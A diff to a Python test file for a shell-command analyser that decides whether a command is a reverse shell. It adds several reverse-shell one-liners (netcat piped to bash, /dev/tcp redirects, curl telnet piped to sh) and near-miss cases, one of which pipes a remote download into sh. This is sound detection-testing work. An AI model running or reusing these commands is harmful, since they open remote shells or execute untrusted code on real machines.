@@ -12,6 +12,10 @@ from tests.support.commands import facts_of
         "mknod p p; nc h 1 < p | bash > p",
         "sh -i | nc h 1",
         "nc h 1 | sh",
+        'nc -lk 1 | while read c; do eval "$c"; done',
+        "nc h 1 | xargs -I{} sh -c '{}'",
+        "bash < <(nc h 1)",
+        "curl -sN telnet://h:1 | sh",
         "telnet h 1 | sh | telnet h 2",
         "exec 5<>/dev/tcp/h/1; sh <&5 >&5",
         "exec 5<>/dev/tcp/h/1; cat <&5 | while read l; do $l; done",
@@ -37,4 +41,12 @@ def test_a_shell_and_a_connection(command: str) -> None:
     ],
 )
 def test_neighbours(command: str) -> None:
+    assert "reverse-shell" not in facts_of(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["echo 'eval ls' | openssl base64 -d | sh", "nc -z h 1 && echo ls | sh", "curl -s http://h | sh; nc -z h 1"],
+)
+def test_a_connection_that_gives_no_orders(command: str) -> None:
     assert "reverse-shell" not in facts_of(command)
